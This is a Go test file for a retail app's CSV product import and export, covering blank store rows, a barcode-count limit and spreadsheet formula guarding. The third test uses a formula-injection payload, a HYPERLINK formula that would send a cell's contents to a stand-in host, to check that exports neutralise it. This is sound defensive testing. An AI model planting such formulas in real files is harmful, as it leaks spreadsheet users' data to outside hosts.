package app_test

import (
	"strings"
	"testing"

	"github.com/scanpay/scanpay/adapters/mysql"
	"github.com/scanpay/scanpay/adapters/mysql/mysqltest"
)

// A product repeated once per store with blanks on the later rows keeps
// the flags set on the first: alcohol must stay age-restricted.
func TestImportBlankFlagsKeepStoredValues(t *testing.T) {
	mysqltest.Each(t, func(t *testing.T, db *mysql.DB) {
		f := newImportFixture(t, db, 500)
		csv := importHeader +
			"BAIJIU52,Baijiu 52%,each,0.13,alcohol,,DEMO01,88.00,,,true,true\n" +
			"BAIJIU52,Baijiu 52%,each,0.13,,,SH02,90.00,,,,true\n"
		wantDone(t, f.run(t, f.admin, csv), 2, 0)
		p := f.product(t, "BAIJIU52")
		if !p.AgeRestricted || p.Category != "alcohol" {
			t.Fatalf("after a store row with blanks: age_restricted=%v category=%q", p.AgeRestricted, p.Category)
		}
	})
}

// A cell of more barcodes than a product may have is one row error, found
// before any per-code work.
func TestImportBarcodeCellBounded(t *testing.T) {
	mysqltest.Each(t, func(t *testing.T, db *mysql.DB) {
		f := newImportFixture(t, db, 500)
		codes := make([]string, 5000)
		for i := range codes {
			codes[i] = "4006381333931"
		}
		csv := importHeader + "MANY01,Many codes,each,0.13,," + strings.Join(codes, "|") + ",,,,,,\n"
		job := f.run(t, f.admin, csv)
		wantDone(t, job, 0, 1)
		wantRowError(t, job, 2, "barcodes", "at most 20")
	})
}

// Free text that a spreadsheet would run as a formula is exported inert,
// and the export still imports back unchanged.
func TestExportGuardsFormulaCells(t *testing.T) {
	mysqltest.Each(t, func(t *testing.T, db *mysql.DB) {
		f := newImportFixture(t, db, 500)
		csv := importHeader + `EVIL01,"=HYPERLINK(""http://x/""&A1,""Click"")",each,0.13,@cat,,DEMO01,1.00,,,false,true` + "\n"
		wantDone(t, f.run(t, f.admin, csv), 1, 0)
		out := f.export(t, "DEMO01")
		if !strings.Contains(out, `"'=HYPERLINK(`) || !strings.Contains(out, "'@cat") {
			t.Fatalf("export does not guard formula cells:\n%s", out)
		}
		job := f.run(t, f.admin, out)
		if job.RowsFailed != 0 {
			t.Fatalf("re-import of the export failed rows: %+v", job.Errors)
		}
		if p := f.product(t, "EVIL01"); !strings.HasPrefix(p.Name, "=HYPERLINK(") || p.Category != "@cat" {
			t.Fatalf("round trip changed the text: %q %q", p.Name, p.Category)
		}
	})
}
